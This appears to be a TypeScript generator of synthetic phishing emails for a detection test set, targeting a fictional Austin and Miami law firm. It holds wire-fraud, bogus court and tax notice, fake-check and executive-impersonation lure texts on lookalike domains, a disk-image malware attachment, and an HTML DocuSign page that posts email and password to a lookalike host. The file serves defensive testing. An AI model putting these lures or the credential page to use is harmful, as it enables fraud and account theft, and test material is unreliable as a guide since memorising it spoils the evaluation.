// The nineteenth unseen set's phishing: what is sent to Alder & Whitcombe LLP, a law and accounting
// practice in Austin and Miami. Closing wire fraud from title-company lookalikes, fake new clients with
// cheques, fake court and e-filing notices, tax-agency and payroll lures, e-signature and legal-software
// credential pages, partner impersonation, malware attachments, extortion, and Spanish mail for the Miami
// office (unseen-19-local.ts).
import type { SeededRandom } from './generate.js';
import { diskImage, legacyMacroDocument, macroWorkbook, oneNote, qrJpeg, zipOf } from './payloads.js';
import { LOCAL_PHISHING_19 } from './unseen-19-local.js';
import {
  addDays,
  addr,
  alnum,
  causeNumber,
  DOMAIN,
  digits,
  FIRM,
  free,
  freemail,
  generate,
  gfNumber,
  guid,
  hex,
  int,
  letter,
  longDate,
  mailbox,
  money,
  name,
  noteHtml,
  outsider,
  owned,
  type Person,
  pass,
  property,
  quoted,
  type R,
  signature,
  spoofed,
  staff,
  type Template,
  upper,
  usDate,
  weekday,
} from './unseen-19-scene.js';
import { invitation, onePagePdf } from './unseen-payloads.js';

const pdf = (name: string, lines: string[], link?: string) => ({
  type: 'application/pdf',
  name,
  content: onePagePdf(lines, link ? { link } : {}),
});
const b64url = (s: string) => Buffer.from(s).toString('base64').replace(/=+$/, '');
const phone = (r: R, area = r.pick(['888', '877', '866', '844', '855'])) =>
  `+1 (${area}) ${int(r, 200, 989)}-${digits(r, 4)}`;
const firstName = (p: Person) => p.first;
const bank = (r: R) =>
  r.pick([
    ['Truist Bank', '061000104'],
    ['Citizens Bank, N.A.', '011500120'],
    ['The Bancorp Bank', '031101114'],
    ['Green Dot Bank', '124303120'],
    ['Regions Bank', '062000019'],
    ['Axos Bank', '122287251'],
  ] as const);

const TITLE_LOOKALIKES = [
  ['Stewart Title', ['stewart-titleaustin.com', 'stewartitle-escrow.com', 'stewart-tltle.com']],
  ['Independence Title', ['independencetitle-tx.com', 'lndependencetitle.com', 'independence-titleco.net']],
  ['First American Title', ['firstam-closings.com', 'flrstam.com', 'firstamerican-escrow.net']],
  ['Heritage Title Company of Austin', ['heritagetitle-austin.com', 'heritage-titleco.net']],
  ['Chicago Title', ['chicagotitle-closing.com', 'ctic-escrowservices.com']],
] as const;

function closingTeam(r: R) {
  const [company, domains] = r.pick(TITLE_LOOKALIKES);
  const officer = outsider(r, false);
  const domain = r.pick(domains);
  const local = r
    .pick([`${officer.first[0]}${officer.last}`, `${officer.first}.${officer.last}`, 'escrow', 'closings'])
    .toLowerCase();
  return { company, officer, domain, email: `${local}@${domain}` };
}

const phishing: Template[] = [
  {
    id: 'closing-wire-instructions-pdf',
    kind: 'closing-wire-fraud',
    make(r, d) {
      const t = closingTeam(r);
      const to = staff(r, 'paralegal', 'partner');
      const prop = property(r, 'Austin');
      const [bankName, aba] = bank(r);
      const amt = money(r, 38000, 690000);
      const gf = gfNumber(r);
      const body = r.pick([
        [
          `Good ${r.pick(['morning', 'afternoon'])} ${firstName(to)},`,
          '',
          `Please find attached our updated wiring instructions for the buyer's funds on ${prop} (${gf}). Our previous escrow account is currently under a scheduled audit and cannot receive incoming wires this week, so kindly disregard the instructions in the original closing packet.`,
          '',
          `The balance due from buyer per the final CD is ${amt}. Please have funds sent no later than ${weekday(addDays(d, 1))} at 12:00 PM CST so we can fund and record same day.`,
          '',
          'Our office phones are being forwarded during the audit, so email is the best way to reach me. Please confirm once the wire has been initiated and send the Fed reference number.',
        ],
        [
          `${firstName(to)},`,
          '',
          `Attached are the corrected wire instructions for ${prop}. Our bank is changing over its trust accounts and the old ones will reject incoming wires. Funds of ${amt} will need to arrive at the new account prior to closing on ${longDate(addDays(d, 2))}.`,
          '',
          'Please forward to your client and let me know when sent. Thank you for your help!',
        ],
      ]);
      return {
        from: mailbox(`${name(t.officer)} | ${t.company}`, t.email),
        to: addr(to),
        subject: r.pick([
          `Updated Wiring Instructions - ${gf}`,
          `${prop} - Revised Wire Instructions`,
          `RE: Closing ${gf} - wire info`,
        ]),
        text: [...body, '', `${name(t.officer)}`, `Escrow Officer | ${t.company}`, 'Austin, Texas'].join(
          '\n',
        ),
        html: noteHtml([...body, '', name(t.officer), `Escrow Officer | ${t.company}`]),
        parts: [
          pdf(`Wire_Instructions_${gf.replace(/\W+/g, '')}.pdf`, [
            `${t.company.toUpperCase()} - ESCROW WIRING INSTRUCTIONS`,
            `File: ${gf}   Property: ${prop}`,
            `Beneficiary Bank: ${bankName}`,
            `ABA Routing: ${aba}`,
            `Account Number: ${digits(r, 10)}`,
            `Account Name: ${t.company} Escrow Trust`,
            'Reference: buyer name and file number',
            'Wire fraud is on the rise. Do not accept changes by phone.',
          ]),
        ],
        auth: owned(r, t.domain),
      };
    },
  },
  {
    id: 'closing-thread-hijack',
    kind: 'reply-chain-hijack',
    make(r, d) {
      const t = closingTeam(r);
      const para = staff(r, 'paralegal');
      const prop = property(r);
      const [bankName, aba] = bank(r);
      const amt = money(r, 52000, 480000);
      const earlier = addDays(d, -int(r, 1, 4));
      const lines = [
        `${r.pick(['Hi', 'Hello', 'Good afternoon'])} ${para.first},`,
        '',
        r.pick([
          'Quick update, our accounting department just advised we can no longer accept funds into the account listed on the earlier instructions. Please use the below for the buyer funds:',
          'Apologies for the confusion, please use the updated account below for the closing funds instead of the one in the packet. The old one is being closed out by the bank.',
        ]),
        '',
        `Bank: ${bankName}`,
        `Routing: ${aba}`,
        `Account: ${digits(r, int(r, 9, 12))}`,
        `Beneficiary: ${t.company} ${r.pick(['Escrow', 'Trust Account', 'Settlement Acct'])}`,
        `Amount: ${amt}`,
        '',
        'Kindly confirm when initiated.',
        '',
        name(t.officer),
        ...quoted(`${name(para)} <${para.email}>`, earlier, [
          `Hi ${t.officer.first},`,
          '',
          `Attached is the signed buyer package for ${prop}. Our client will wire the balance once you send the final figures.`,
          '',
          'Thanks,',
          ...signature(para),
        ]),
      ];
      const subject = `RE: ${prop.split(',')[0]} - Closing ${usDate(addDays(d, 2))}`;
      const parent = `<${alnum(r, 16)}@${DOMAIN}>`;
      return {
        from: mailbox(name(t.officer), t.email),
        to: addr(para),
        cc: r.below(2) ? addr(staff(r, 'partner')) : undefined,
        subject,
        text: lines.join('\n'),
        headers: [`In-Reply-To: ${parent}`, `References: ${parent}`, `Thread-Topic: ${subject.slice(4)}`],
        auth: owned(r, t.domain),
      };
    },
  },
  {
    id: 'title-secure-portal-login',
    kind: 'credential-harvest-link',
    make(r) {
      const [company, host] = r.pick([
        ['Fidelity National Title', r.pick(['fntg-securedocs.com', 'fnf-closingportal.com'])],
        ['Old Republic Title', r.pick(['oldrepublic-securefile.com', 'ortc-docs.net'])],
        ['Stewart Title', r.pick(['stewart-securexchange.com', 'stewartcloud-docs.com'])],
      ]);
      const to = staff(r, 'paralegal', 'partner');
      const prop = property(r);
      const url = `https://${host}/portal/${r.pick(['login', 'auth', 'signin'])}?file=${digits(r, 8)}&u=${b64url(to.email)}`;
      const l = letter({
        brand: { name: company, color: r.pick(['#003a70', '#1b365d', '#0b5394']) },
        greeting: `Dear ${name(to)},`,
        paras: [
          `${company} has shared secure closing documents with you for the following transaction:`,
          `Property: ${prop}\nDocuments: Closing Disclosure, Settlement Statement, Wiring Instructions`,
          `For your security, these documents are available through our encrypted portal and will expire in ${r.pick(['48 hours', '72 hours', '5 days'])}. Sign in with your email account to view.`,
        ],
        button: { text: 'View Secure Documents', url },
        footer: [
          `This message was sent by ${company} on behalf of the escrow officer for your file.`,
          'Please do not reply to this automated email.',
        ],
      });
      return {
        from: mailbox(`${company} SecureDocs`, `notifications@${host}`),
        to: addr(to),
        subject: r.pick([
          `Secure documents available: ${prop.split(',')[0]}`,
          `[Secure] Closing package - ${prop.split(',')[0]}`,
        ]),
        html: l.html,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'new-client-debt-collection',
    kind: 'fake-client-check',
    make(r) {
      const who = r.pick([
        { first: 'Hiroshi', last: 'Tanaka' },
        { first: 'Li', last: 'Wei Chen' },
        { first: 'Dieter', last: 'Hoffmann' },
        { first: 'Kenji', last: 'Watanabe' },
        { first: 'Olga', last: 'Petrenko' },
      ]);
      const company = r.pick([
        'Sanwa Precision Industries Co., Ltd',
        'Tianjin Hengda Steel Trading Co.',
        'Hoffmann Maschinenbau GmbH',
        'Kyoei Marine Equipment Ltd',
      ]);
      const from = freemail(r, who, ['gmail.com', 'outlook.com', 'yahoo.com']);
      const owed = money(r, 180000, 950000, false);
      const debtor = `${outsider(r, false).last} ${r.pick(['Industrial Supply', 'Manufacturing LLC', 'Energy Services Inc', 'Logistics Group'])}`;
      const body = [
        r.pick(['Dear Counsel,', 'Attention: Attorney', 'Good day,']),
        '',
        `My name is ${name(who)}, ${r.pick(['director of finance', 'legal officer', 'CFO'])} for ${company}. We are seeking ${r.pick(['an attorney', 'legal representation', 'a law firm'])} in Texas to assist us with the collection of an outstanding debt of ${owed} owed by one of our customers, ${debtor}, located in your jurisdiction.`,
        '',
        r.pick([
          'The customer has acknowledge the debt and agreed to make payment but has been delaying for several month. We believe a letter from a local attorney will motivate them to settle quickly.',
          'We have contract and invoices for the goods supplied. Customer promised payment many times. We need attorney to send demand and receive payment on our behalf.',
        ]),
        '',
        'Kindly let me know if your firm can handle this matter and your fee structure. We are prepared to pay contingency fee or retainer as you advice. I will send the supply agreement and invoices once we have your engagement letter.',
        '',
        'Best Regards,',
        name(who),
        company,
      ];
      return {
        from: mailbox(name(who), from),
        replyTo: r.below(2)
          ? mailbox(name(who), freemail(r, who, ['outlook.com', 'hotmail.com', 'mail.com']))
          : undefined,
        to: r.pick([`info@${DOMAIN}`, `intake@${DOMAIN}`, addr(staff(r, 'partner'))]),
        subject: r.pick([
          'Legal Representation Needed',
          'Debt collection matter',
          'Request for legal assistance',
          'Inquiry',
        ]),
        text: body.join('\n'),
        auth: free(from),
      };
    },
  },
  {
    id: 'new-client-cheque-arrived',
    kind: 'fake-check-overpayment',
    make(r, d) {
      const who = outsider(r, false);
      const from = freemail(r, who);
      const partner = staff(r, 'partner');
      const amt = money(r, 120000, 390000);
      const fee = r.pick(['15%', '20%', '10%']);
      const body = [
        `Dear ${partner.first === 'Margaret' ? 'Ms.' : r.pick(['Mr.', 'Ms.'])} ${partner.last},`,
        '',
        `Thank you for the engagement letter, please find the signed copy attached. I am glad to inform you that the debtor has finally made payment and a cashier's check for ${amt} has been sent to your office by FedEx, it should arrive ${weekday(addDays(d, 1))}.`,
        '',
        `As agreed please deposit the check in your trust account, deduct your ${fee} fee and wire the balance to our company account in ${r.pick(['Hong Kong', 'Singapore', 'Dubai', 'Tokyo'])}. I will send you the banking details once you confirm receipt.`,
        '',
        'We need the funds urgently to pay our suppliers so please treat as priority.',
        '',
        'Kind regards,',
        name(who),
      ];
      return {
        from: mailbox(name(who), from),
        to: addr(partner),
        subject: r.pick([
          'RE: Engagement Letter',
          'RE: RE: Representation - Payment received from debtor',
          'Signed engagement letter & check',
        ]),
        text: body.join('\n'),
        parts: [
          pdf(`Signed_Engagement_Letter_${upper(r, 4)}.pdf`, [
            `${FIRM} - ENGAGEMENT LETTER`,
            `Client: ${name(who)} on behalf of company`,
            `Scope: collection of outstanding receivable; contingency fee ${fee}.`,
            'Signed: ______________________',
          ]),
        ],
        auth: free(from),
      };
    },
  },
  {
    id: 'efiletexas-service-download',
    kind: 'fake-court-notice-malware',
    make(r, d) {
      const host = r.pick(['efiletexas-notice.com', 'efile-texascourts.net', 'txcourts-efileservice.com']);
      const to = staff(r, 'paralegal', 'partner', 'associate');
      const cause = causeNumber(r);
      const env = digits(r, 8);
      const url = `https://${host}/ViewDocuments.aspx?FID=${guid(r)}`;
      const l = letter({
        brand: { name: 'eFileTexas.gov', color: '#0a3161' },
        paras: [
          `NOTIFICATION OF SERVICE FOR CASE: ${cause}`,
          `Envelope Number: ${env}\nCase Style: ${outsider(r).last} v. ${r.pick([FIRM, `${outsider(r).last} Holdings LLC`, 'Alder & Whitcombe LLP, et al.'])}\nDate/Time Submitted: ${usDate(d)} ${int(r, 1, 11)}:${int(r, 10, 59)} ${r.pick(['AM', 'PM'])} CST\nFiling Type: ${r.pick(['Original Petition', 'Motion for Summary Judgment', 'Notice of Hearing', 'Citation'])}`,
          'The documents served on you are available for download for 14 days. Download the served documents:',
        ],
        button: { text: 'Download Documents', url },
        footer: [
          'This is an automated notice. Please do not reply to this email.',
          'Powered by Tyler Technologies',
        ],
      });
      return {
        from: mailbox('eFileTexas', `no-reply@${host}`),
        to: addr(to),
        subject: `Notification of Service for Case: ${cause}, ${outsider(r).last} v. ${r.pick(['Alder Whitcombe', 'Unknown', 'et al'])} for filing ${r.pick(['Original Petition', 'Notice of Hearing', 'Motion'])}, Envelope Number: ${env}`,
        html: l.html,
        text: l.text,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'district-clerk-hearing-image',
    kind: 'malware-disk-image',
    make(r, d) {
      const to = staff(r);
      const cause = causeNumber(r);
      const clerk = outsider(r);
      const file = `Notice_of_Hearing_${cause.replace(/[^\w-]/g, '_')}.${r.pick(['img', 'iso'])}`;
      return {
        from: mailbox(
          r.pick(['Travis County District Clerk', 'District Clerk - Civil Division']),
          `districtclerk@${r.pick(['traviscountytx.gov', 'traviscountytx.gov', 'txcourts.gov'])}`,
        ),
        to: addr(to),
        subject: r.pick([
          `Notice of Hearing - Cause No. ${cause}`,
          `Court Notice: ${cause} - Appearance Required`,
        ]),
        text: [
          'Good morning,',
          '',
          `Please see attached notice of hearing set for ${longDate(addDays(d, int(r, 3, 10)))} at ${r.pick(['9:00', '10:30', '1:30'])} in the ${r.pick(['53rd', '200th', '345th', '419th'])} District Court. Your appearance is required.`,
          '',
          'The attached file opens with Windows Explorer. Please do not reply to this email.',
          '',
          name(clerk),
          'Deputy Clerk',
        ].join('\n'),
        parts: [{ type: 'application/octet-stream', name: file, content: diskImage() }],
        auth: spoofed(
          r,
          'traviscountytx.gov',
          r.pick(['vps-2231.hostingcloud.example', 'mail.clerk-notice.test']),
        ),
        relay: `${r.pick(['vps', 'srv', 'host'])}${digits(r, 4)}.${r.pick(['hostingcloud.example', 'fastvps.test'])}`,
      };
    },
  },
  {
    id: 'pacer-nef-lookalike',
    kind: 'fake-court-notice-link',
    make(r) {
      const host = r.pick(['txwd-uscourts.net', 'ecf-uscourts.org', 'pacer-ecfnotice.com']);
      const to = staff(r, 'partner', 'associate', 'paralegal');
      const cause = `1:${int(r, 24, 26)}-cv-00${digits(r, 3)}-${r.pick(['RP', 'ADA', 'DII'])}`;
      const docNo = int(r, 12, 140);
      const url = `https://ecf.${host}/doc1/${digits(r, 12)}?caseid=${digits(r, 6)}&de_seq_num=${int(r, 30, 400)}&magic_num=${digits(r, 8)}`;
      const text = [
        'This is an automatic e-mail message generated by the CM/ECF system. Please DO NOT RESPOND to this e-mail because the mail box is unattended.',
        '***NOTE TO PUBLIC ACCESS USERS*** Judicial Conference of the United States policy permits attorneys of record and parties in a case (including pro se litigants) to receive one free electronic copy of all documents filed electronically.',
        '',
        'U.S. District Court [LIVE]',
        'Western District of Texas',
        '',
        'Notice of Electronic Filing',
        '',
        `The following transaction was entered on ${usDate(new Date())} at ${int(r, 8, 17)}:${int(r, 10, 59)} PM CDT and filed on ${usDate(new Date())}`,
        `Case Name: ${outsider(r).last} v. ${outsider(r).last} Capital Partners LLC`,
        `Case Number: ${cause}`,
        `Document Number: ${docNo}`,
        '',
        `Docket Text: ${r.pick(['ORDER TO SHOW CAUSE why sanctions should not be imposed', 'ORDER setting evidentiary hearing. Counsel shall appear in person', 'SEALED ORDER regarding discovery dispute'])}. Signed by Judge ${outsider(r, false).last}.`,
        '',
        `Document(s) can be viewed at: ${url}`,
      ].join('\n');
      return {
        from: mailbox('cmecf_notices', `cmecf_notices@${host}`),
        to: to.email,
        subject: `Activity in Case ${cause} ${outsider(r).last} v. ${outsider(r).last} Capital Partners LLC Order`,
        text,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'eftps-payment-rejected',
    kind: 'tax-agency-impersonation',
    make(r, d) {
      const host = r.pick(['eftps-treasury.com', 'eftps-paymentcenter.net', 'irs-eftps.org']);
      const to = staff(r, 'accountant');
      const amt = money(r, 2400, 86000);
      const url = `https://www.${host}/eftps/${r.pick(['verify', 'payment-status', 'resubmit'])}?id=${upper(r, 12)}`;
      const l = letter({
        brand: { name: 'EFTPS - Electronic Federal Tax Payment System', color: '#112e51' },
        greeting: 'Dear Taxpayer,',
        paras: [
          `Your federal tax payment of ${amt} scheduled for ${longDate(d)} (Form ${r.pick(['941', '940', '1120', '1065'])}) was REJECTED by the financial institution. Reason code: R0${int(r, 1, 4)} - ${r.pick(['Insufficient funds', 'Account closed', 'No account/unable to locate'])}.`,
          'To avoid failure-to-deposit penalties of up to 10% under IRC 6656, you must verify the payment details and resubmit within 24 hours.',
        ],
        button: { text: 'Verify Payment', url },
        footer: [
          'U.S. Department of the Treasury | Bureau of the Fiscal Service',
          'This is an automated message. Do not reply.',
        ],
      });
      return {
        from: mailbox('EFTPS', `noreply@${host}`),
        to: addr(to),
        subject: r.pick([
          'EFTPS: Your tax payment has been rejected',
          'Federal tax payment not completed - action needed',
          'EFTPS Payment Return Notification',
        ]),
        html: l.html,
        text: r.below(2) ? l.text : undefined,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'irs-efin-suspension',
    kind: 'tax-preparer-targeting',
    make(r) {
      const host = r.pick(['irs-eservices-gov.com', 'eservices-irs.us', 'irs-efin-verification.com']);
      const to = r.pick([staff(r, 'accountant'), staff(r, 'partner')]);
      const efin = digits(r, 6);
      const text = [
        'IRS e-Services',
        '',
        `Electronic Filing Identification Number (EFIN): ${efin.slice(0, 2)}****`,
        '',
        `Our records indicate that the EFIN associated with ${FIRM} has been flagged for suspension due to incomplete Form 8633 information and unverified e-Services credentials. To continue e-filing returns this season you are required to update your e-file application within 48 hours.`,
        '',
        'Failure to complete the verification will result in the deactivation of your EFIN and rejection of all pending returns transmitted under it.',
        '',
        `Update your e-file application: https://${host}/e-services/efin/${efin}`,
        '',
        'Thank you,',
        'IRS e-Services Help Desk',
        'Return Preparer Office',
      ].join('\n');
      return {
        from: mailbox('IRS e-Services', r.pick([`e-services@${host}`, `efin.update@${host}`])),
        to: addr(to),
        subject: r.pick([
          'Action Required: EFIN Suspension Notice',
          'Your EFIN status has changed',
          'IRS e-Services: Update your e-File Application',
        ]),
        text,
        html: r.below(2) ? noteHtml(text.split('\n')) : undefined,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'irs-notice-pdf-link',
    kind: 'pdf-link',
    make(r) {
      const host = r.pick(['irs-taxnotice.org', 'treasury-noticecenter.com', 'irs-cp2000.info']);
      const to = staff(r, 'accountant', 'partner', 'office');
      const url = `https://${host}/notice/${upper(r, 10)}`;
      const form = r.pick(['CP2000', 'CP14', 'LT11', 'CP504']);
      return {
        from: mailbox('IRS Notice Center', `notice@${host}`),
        to: addr(to),
        subject: r.pick([
          `Notice ${form}: Proposed changes to your tax return`,
          `IRS ${form} Notice Attached`,
          'Important tax notice regarding your account',
        ]),
        text: r.pick([
          `Please review the attached ${form} notice regarding your ${int(r, 2022, 2025)} tax account. A response is required within 30 days.`,
          `Attached is a notice from the Internal Revenue Service. Please review and respond using the secure link in the document.\n\nIRS`,
        ]),
        parts: [
          pdf(
            `${form}_Notice_${digits(r, 6)}.pdf`,
            [
              'Department of the Treasury - Internal Revenue Service',
              `Notice ${form}   Tax year ${int(r, 2022, 2025)}`,
              `Amount due: ${money(r, 3200, 48000)}`,
              'We found a discrepancy in the income you reported.',
              'View and respond to your notice securely online',
            ],
            url,
          ),
        ],
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'docusign-html-attachment',
    kind: 'html-attachment-harvest',
    make(r) {
      const client = outsider(r);
      const to = staff(r);
      const host = r.pick(['docu-review-secure.com', 'esign-verify.net', 'docs-authportal.com']);
      const sender = r.pick([
        `docusign@${host}`,
        `${alnum(r, 8)}@${r.pick(['mailrelay.test', 'bulkserv.example'])}`,
      ]);
      const page = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>DocuSign</title></head><body style="font-family:Arial"><div style="max-width:380px;margin:60px auto;border:1px solid #ccc;padding:24px"><img src="https://${host}/img/ds-logo.png" alt="DocuSign" height="30"><h3>Sign in to view document</h3><p>Engagement_Agreement_${client.last}.pdf</p><form method="POST" action="https://${host}/auth/${hex(r, 12)}.php"><input type="email" name="login" value="${to.email}" style="width:100%;padding:8px"><br><br><input type="password" name="passwd" placeholder="Password" style="width:100%;padding:8px"><br><br><button type="submit" style="background:#ffc820;border:0;padding:10px 30px">View Document</button></form></div></body></html>`;
      return {
        from: mailbox(`${name(client)} via DocuSign`, sender),
        to: addr(to),
        subject: r.pick([
          `Completed: Engagement Agreement - ${client.last} - Please DocuSign`,
          `Please DocuSign: ${client.last}_Retainer_Agreement.pdf`,
          `${name(client)} sent you a document to review and sign`,
        ]),
        html: `<div style="font-family:Arial;font-size:14px"><div style="background:#1e4ca1;color:#fff;padding:20px;text-align:center;font-size:18px">${name(client)} sent you a document to review and sign.</div><p>Please review the attached document. For your security the document is attached in an encrypted viewer.</p><p style="color:#888;font-size:11px">Do Not Share This Email. This email contains a secure link to DocuSign.</p></div>`,
        parts: [
          { type: 'text/html', name: `Engagement_Agreement_${client.last}.html`, content: Buffer.from(page) },
        ],
        auth: sender.endsWith(host)
          ? owned(r, host)
          : {
              spf: 'softfail',
              dkim: 'none',
              dmarc: 'none',
              mailFrom: sender.split('@')[1],
              fromDomain: sender.split('@')[1],
            },
      };
    },
  },
  {
    id: 'adobe-sign-qr-pdf',
    kind: 'qr-code-pdf',
    async make(r) {
      const host = r.pick(['adobesign-docs.com', 'acrobat-signportal.net', 'adobe-esign.info']);
      const to = staff(r);
      const by = r.pick([name(staff(r, 'partner')), `${outsider(r).first} ${outsider(r).last}`]);
      const doc = r.pick([
        'Settlement Statement',
        'Final Closing Disclosure',
        'Amended Partnership Agreement',
        'Q4 Bonus Allocation',
      ]);
      const url = `https://${r.pick(['sign', 'view', 'secure'])}.${host}/${hex(r, 10)}?e=${b64url(to.email)}`;
      const jpg = await qrJpeg(url);
      return {
        from: mailbox('Adobe Acrobat Sign', `adobesign@${host}`),
        to: addr(to),
        subject: `${by} has sent you ${doc} to sign`,
        text: [
          `${by} has sent you ${doc} for review and signature.`,
          '',
          'The agreement is attached. Scan the QR code in the document with your phone camera to review and sign securely on mobile.',
          '',
          'Adobe Acrobat Sign',
        ].join('\n'),
        parts: [
          {
            type: 'application/pdf',
            name: `${doc.replace(/ /g, '_')}.pdf`,
            content: onePagePdf(
              [
                'Adobe Acrobat Sign',
                `${doc} - awaiting your signature`,
                'Scan the code below with your phone camera to sign.',
              ],
              { jpeg: jpg },
            ),
          },
        ],
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'partner-gift-cards',
    kind: 'gift-card-bec',
    make(r) {
      const boss = staff(r, 'partner');
      const to = staff(r, 'paralegal', 'office', 'associate');
      const from = r.pick([
        `${boss.first.toLowerCase()}.${boss.last.toLowerCase()}.${r.pick(['esq', 'law', 'office'])}@gmail.com`,
        `${boss.first[0].toLowerCase()}${boss.last.toLowerCase()}${int(r, 10, 99)}@outlook.com`,
        `partner.${boss.last.toLowerCase()}@${r.pick(['mail.com', 'gmail.com'])}`,
      ]);
      const first = r.pick([
        [
          `Hi ${to.first}, are you at your desk? I need you to handle something for me quickly. I'm in a ${r.pick(['deposition', 'mediation', 'closing'])} and can't take calls.`,
        ],
        [`${to.first}`, '', 'Do you have a moment. I need a favor done discreetly'],
        [
          `Hello ${to.first}, I need you to pick up some gift cards for a few clients today, it's a surprise so keep it between us. Can you get it done in the next hour? I'll reimburse you.`,
        ],
      ]);
      const tail = r.pick([[], ['', 'Sent from my iPhone'], ['', name(boss)], ['', `${boss.first[0]}.`]]);
      return {
        from: mailbox(name(boss), from),
        to: addr(to),
        subject: r.pick(['Quick favor', 'Are you available?', 'Request', 'Urgent', '']),
        text: [...first, ...tail].join('\n'),
        auth: free(from),
      };
    },
  },
  {
    id: 'partner-iolta-refund-wire',
    kind: 'wire-transfer-bec',
    make(r) {
      const boss = staff(r, 'partner');
      const to = r.pick([staff(r, 'accountant'), staff(r, 'office')]);
      const look = r.pick([
        'corp-example.com',
        'corpexample-law.com',
        'corp.exarnple.com',
        'corp-example.net',
      ]);
      const from = `${boss.email.split('@')[0]}@${look}`;
      const client = outsider(r);
      const [bankName, aba] = bank(r);
      const amt = money(r, 18000, 145000);
      const text = [
        `${to.first},`,
        '',
        `We need to process a refund of unearned retainer for ${name(client)} out of the trust account today. The matter settled and the client has asked that the balance of ${amt} be wired to their new account, details below. They closed the account on file.`,
        '',
        `Bank: ${bankName}`,
        `ABA: ${aba}`,
        `Acct: ${digits(r, 10)}`,
        `Name: ${name(client)}`,
        '',
        r.pick([
          "I'm in back-to-back meetings all afternoon, just email me the confirmation once it's out. Please don't hold this up, the client is already upset about the delay.",
          'Please handle before the cutoff and send me the confirmation. I have approved it so no need to wait for the usual sign off.',
        ]),
        '',
        'Thanks',
        boss.first,
      ];
      return {
        from: mailbox(name(boss), from),
        to: addr(to),
        subject: r.pick([
          `Trust refund - ${client.last}`,
          `${client.last} retainer refund - today`,
          'Wire today please',
        ]),
        text: text.join('\n'),
        html: r.below(2) ? noteHtml(text) : undefined,
        auth: owned(r, look),
      };
    },
  },
  {
    id: 'state-bar-dues-lookalike',
    kind: 'fake-dues-payment',
    make(r, d) {
      const host = r.pick(['texasbar-membership.org', 'texasbar-dues.com', 'statebartx-fees.org']);
      const to = staff(r, 'partner', 'associate');
      const bar = digits(r, 8);
      const url = `https://www.${host}/MemberFees/Pay?bar=${bar}&ref=${upper(r, 8)}`;
      const l = letter({
        brand: { name: 'State Bar of Texas', color: '#002855' },
        greeting: `Dear ${name(to)},`,
        paras: [
          `Our records show that the membership fees and legal services fee for Bar Card No. ${bar} remain unpaid as of ${longDate(d)}.`,
          `Under the State Bar Rules, attorneys who fail to pay by the deadline are subject to administrative suspension from the practice of law. A late fee of ${money(r, 50, 200, false)} has been applied. To avoid suspension, payment must be received within 5 business days.`,
        ],
        button: { text: 'Pay Membership Fees', url },
        footer: ['State Bar of Texas | Membership Department | 1414 Colorado St., Austin, TX 78701'],
      });
      return {
        from: mailbox('State Bar of Texas - Membership', `membership@${host}`),
        to: addr(to),
        subject: r.pick([
          'FINAL NOTICE: Membership Fees Delinquent',
          'Administrative Suspension Notice - Unpaid Bar Dues',
          'Your State Bar dues are past due',
        ]),
        html: l.html,
        text: l.text,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'florida-bar-cle-deficiency',
    kind: 'professional-body-impersonation',
    make(r) {
      const host = r.pick(['floridabar-compliance.com', 'flbar-cler.org', 'floridabar-member.net']);
      const to = r.pick([staff(r, 'partner'), staff(r, 'associate')]);
      const url = `https://${host}/member/cler/${digits(r, 7)}`;
      const l = letter({
        brand: { name: 'The Florida Bar', color: '#00487c' },
        greeting: `Dear Member,`,
        paras: [
          `Our records reflect that you have not completed the Continuing Legal Education Requirement (CLER) for your current reporting cycle. You are currently deficient by ${int(r, 6, 21)} credit hours, including ${int(r, 1, 3)} hours of ethics.`,
          'Members who do not cure the deficiency will be reported as delinquent and may be removed from membership. Please log in to the member portal to review your transcript and submit a cure plan.',
        ],
        button: { text: 'Review my CLER status', url },
        footer: ['The Florida Bar | 651 East Jefferson Street | Tallahassee, FL 32399'],
      });
      return {
        from: mailbox('The Florida Bar CLE', `cler@${host}`),
        to: addr(to),
        subject: r.pick([
          'CLER Deficiency Notice',
          'Action Required: CLE Requirement Not Met',
          'Notice of Noncompliance - Continuing Legal Education',
        ]),
        html: l.html,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'clio-billing-failed',
    kind: 'legal-saas-credential',
    make(r) {
      const host = r.pick(['clio-billing.com', 'app-clio.net', 'cliomanage-support.com']);
      const to = staff(r, 'office', 'partner', 'paralegal');
      const url = `https://app.${host}/login?next=/settings/billing&session=${hex(r, 24)}`;
      const l = letter({
        brand: { name: 'Clio', color: '#0070e0' },
        greeting: `Hi ${to.first},`,
        paras: [
          `We were unable to process the payment for your Clio Manage subscription (${FIRM}). Your card ending in ${digits(r, 4)} was declined.`,
          r.pick([
            'To avoid interruption of service and loss of access to your matters, documents and trust accounting, please update your billing information within 24 hours.',
            'Your account will be moved to read-only mode. Sign in to update your payment method and restore access for all users.',
          ]),
        ],
        button: { text: 'Update Billing Details', url },
        sign: ['The Clio Team'],
        footer: ['Clio | 4500 East Cotton Center Blvd | Phoenix, AZ'],
      });
      return {
        from: mailbox('Clio', `billing@${host}`),
        to: addr(to),
        subject: r.pick([
          'Action required: Payment failed for your Clio subscription',
          'Your Clio account will be suspended',
          'Clio: Update your billing information',
        ]),
        html: l.html,
        text: l.text,
        auth: owned(r, host),
      };
    },
  },
  {
    id: 'netdocuments-share-lure',
    kind: 'shared-document-lure',
    make(r) {
      const host = r.pick(['netdocs-share.com', 'netdocuments-vault.net', 'nd-sharedfiles.com']);
      const from = outsider(r);
      const to = staff(r);
      const doc = r.pick([
        'Settlement Agreement - Draft v3',
        'Mediation Statement (Confidential)',
        'Purchase and Sale Agreement - Redline',
        'Estate Inventory 2025',
      ]);
      const url = `https://vault.${host}/neWeb2/goid.aspx?id=${digits(r, 4)}-${digits(r, 4)}-${digits(r, 4)}&login=${encodeURIComponent(to.email)}`;
      const l = letter({
        brand: { name: 'NetDocuments', color: '#1c2b4a' },
        paras: [
          `${name(from)} has shared a document with you.`,
          `${doc}.docx\nCabinet: ${r.pick(['Litigation', 'Real Estate', 'Client Matters'])}\nMessage: "${r.pick(['Please review before our call', 'Per our discussion, see attached', 'Final version for your signature'])}"`,
        ],
        button: { text: 'Open Document', url },
        footer: [
          'NetDocuments | Secure cloud document management',
